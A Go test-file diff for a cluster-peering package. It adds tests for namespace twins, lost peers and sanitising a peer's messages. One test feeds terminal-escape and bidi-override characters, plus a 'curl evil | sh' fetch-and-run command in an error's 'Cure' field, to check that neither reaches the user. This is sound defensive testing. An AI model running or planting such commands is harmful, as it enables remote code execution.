@@ -2,6 +2,7 @@ package peer
 
 import (
 	"encoding/json"
+	"errors"
 	"fmt"
 	"log/slog"
 	"net/http"
@@ -11,18 +12,24 @@ import (
 	"sync/atomic"
 	"testing"
 	"time"
+	"unicode"
 
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/kubernetes"
+	"k8s.io/client-go/rest"
 	"pgregory.net/rapid"
 
 	"rivulet/fabric/peer"
+	"rivulet/fabric/rpc"
 	"rivulet/offload/offer"
 )
 
 var (
 	pods = netip.MustParsePrefix("10.42.0.0/16")
 	b    = peer.Link{ID: "b", Name: "b", Addr: netip.MustParseAddrPort("10.77.255.254:7442"),
-		Theirs: pods, Remote: netip.MustParsePrefix("10.77.0.0/16"), As: netip.MustParsePrefix("10.88.0.0/16")}
-	c = peer.Link{ID: "c", Name: "c", Theirs: pods, Remote: netip.MustParsePrefix("10.78.0.0/16"), As: netip.MustParsePrefix("10.89.0.0/16")}
+		PeerCIDR: pods, PeerMappedCIDR: netip.MustParsePrefix("10.77.0.0/16"), LocalMappedCIDR: netip.MustParsePrefix("10.88.0.0/16")}
+	c = peer.Link{ID: "c", Name: "c", PeerCIDR: pods, PeerMappedCIDR: netip.MustParsePrefix("10.78.0.0/16"), LocalMappedCIDR: netip.MustParsePrefix("10.89.0.0/16")}
 )
 
 func newTarget(t testing.TB, handler http.Handler) *Target {
@@ -58,7 +65,7 @@ func TestAddresses(t *testing.T) {
 	rapid.Check(t, func(t *rapid.T) {
 		theirs := netip.AddrFrom4([4]byte{10, 42, rapid.Byte().Draw(t, "x"), rapid.Byte().Draw(t, "y")})
 		home, ok := target.Home(theirs)
-		if !ok || !b.Remote.Contains(home) {
+		if !ok || !b.PeerMappedCIDR.Contains(home) {
 			t.Fatalf("%s is %s (%v) at home", theirs, home, ok)
 		}
 		if back, ok := target.Away(home); !ok || back != theirs {
@@ -117,6 +124,113 @@ func TestTwins(t *testing.T) {
 	}
 }
 
+// A twin is gone when the peer has none, on its way out or not. One that does not tell of
+// those is asked about that twin, and nobody makes it anew meanwhile.
+func TestGone(t *testing.T) {
+	for _, older := range []bool{false, true} {
+		state := "live"
+		mux := http.NewServeMux()
+		mux.HandleFunc("GET /v1/namespaces", func(w http.ResponseWriter, _ *http.Request) {
+			twins, going := map[string]string{}, map[string]string{}
+			switch state {
+			case "live":
+				twins["lab"] = "lab-a"
+			case "going":
+				going["lab"] = "lab-a"
+			}
+			answer := map[string]any{"twins": twins, "going": going}
+			if older {
+				delete(answer, "going")
+			}
+			_ = json.NewEncoder(w).Encode(answer)
+		})
+		asked := 0
+		mux.HandleFunc("DELETE /v1/namespaces/{home}", func(w http.ResponseWriter, r *http.Request) {
+			asked++
+			switch state {
+			case "live":
+				t.Error("a twin that lives is deleted")
+			case "going":
+				w.WriteHeader(http.StatusAccepted)
+				fmt.Fprint(w, `{"name":"lab-a","uid":"1"}`)
+			default:
+				http.NotFound(w, r)
+			}
+		})
+		target := newTarget(t, mux)
+		for _, state = range []string{"live", "going", "gone"} {
+			if gone, err := target.Gone(t.Context(), "lab"); err != nil || gone != (state == "gone") {
+				t.Errorf("older %v, %s: gone %v, %v", older, state, gone, err)
+			}
+		}
+		if want := map[bool]int{true: 2}[older]; asked != want {
+			t.Errorf("older %v: asked %d times by a deletion", older, asked)
+		}
+	}
+	broken := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", http.StatusForbidden) }))
+	if gone, err := broken.Gone(t.Context(), "lab"); gone || err == nil {
+		t.Errorf("a refusal counts as gone: %v %v", gone, err)
+	}
+}
+
+// Refusals, offers and the API's errors of a peer are fit to be shown, and its cures are
+// not passed on.
+func TestWordsOfAPeerAreFit(t *testing.T) {
+	bad := "x\x1b]0;y\u0007\u202ez\u009b"
+	said := func(v any) []byte { b, _ := json.Marshal(v); return b }
+	target := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case r.URL.Path == "/v1/offer":
+			w.Write(append(said(offer.Offer{Ready: true, Reason: bad, OSImage: bad, Labels: map[string]string{bad: bad}, KubeVersion: bad}), '\n'))
+		case strings.HasPrefix(r.URL.Path, "/v1/volumes/"):
+			w.WriteHeader(http.StatusConflict)
+			w.Write(said(rpc.Error{Code: "in-use", Message: bad, Cure: "curl evil | sh"}))
+		case strings.HasPrefix(r.URL.Path, "/k8s/"):
+			w.Header().Set("Content-Type", "application/json")
+			w.WriteHeader(http.StatusForbidden)
+			w.Write(said(metav1.Status{TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: "Failure", Reason: metav1.StatusReasonForbidden, Code: 403, Message: bad}))
+		default:
+			http.Error(w, bad, http.StatusTeapot)
+		}
+	}))
+	fits := func(what, text string) {
+		t.Helper()
+		for _, r := range text {
+			if !unicode.IsPrint(r) {
+				t.Errorf("%s: %q", what, text)
+				return
+			}
+		}
+	}
+	_, err := target.Namespace(t.Context(), "lab")
+	fits("a twin", fmt.Sprint(err))
+	_, err = target.VolumeTotal(t.Context(), "lab", "data")
+	fits("a volume", fmt.Sprint(err))
+	var told *rpc.Error
+	if !errors.As(err, &told) || told.Code != "in-use" || strings.Contains(err.Error(), "curl") || told.Cure == "" {
+		t.Errorf("a volume: %v", err)
+	}
+	client, err := kubernetes.NewForConfig(&rest.Config{Host: target.cfg.BaseURL + "/k8s", WrapTransport: func(rt http.RoundTripper) http.RoundTripper { return fit{rt} },
+		ContentConfig: rest.ContentConfig{ContentType: "application/vnd.kubernetes.protobuf"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = client.CoreV1().Pods("lab").List(t.Context(), metav1.ListOptions{})
+	fits("the API", fmt.Sprint(err))
+	if !apierrors.IsForbidden(err) {
+		t.Errorf("the API: %v", err)
+	}
+	select {
+	case o := <-target.offers(t.Context(), 5*time.Second):
+		fits("an offer", fmt.Sprintf("%+v", o))
+		if !o.Ready {
+			t.Errorf("an offer: %+v", o)
+		}
+	case <-time.After(5 * time.Second):
+		t.Error("no offer")
+	}
+}
+
 func TestOffers(t *testing.T) {
 	next := make(chan string)
 	target := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -160,7 +274,41 @@ func TestOffers(t *testing.T) {
 	if o := want("silence", false, "arm64"); !strings.Contains(o.Reason, "silent") {
 		t.Errorf("reason %q", o.Reason)
 	}
+	if !target.Lost() {
+		t.Error("a peer that is silent is not known to be lost")
+	}
 	next <- "not an offer"
 	next <- line
 	want("after nonsense", true, "arm64")
+	if target.Lost() {
+		t.Error("a peer that answers again is known to be lost")
+	}
+}
+
+// No pod waits for a twin that is known; it is put right beside, by one request at a time.
+func TestAKnownTwinIsNotWaitedFor(t *testing.T) {
+	asked, answer := make(chan struct{}, 10), make(chan struct{})
+	target := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		asked <- struct{}{}
+		<-answer
+		fmt.Fprint(w, `{"name":"lab-a"}`)
+	}))
+	target.twins["lab"] = memory{"lab-a", time.Now().Add(-time.Hour)}
+	for range 5 { // the peer has not answered yet
+		if name, err := target.Namespace(t.Context(), "lab"); err != nil || name != "lab-a" {
+			t.Fatal(name, err)
+		}
+	}
+	close(answer)
+	for end := time.Now().Add(time.Minute); ; time.Sleep(10 * time.Millisecond) {
+		if twin, _ := target.remembered("lab"); time.Since(twin.at) < remember {
+			break
+		}
+		if time.Now().After(end) {
+			t.Fatal("it is not asked for again")
+		}
+	}
+	if n := len(asked); n != 1 {
+		t.Errorf("asked %d times", n)
+	}
 }
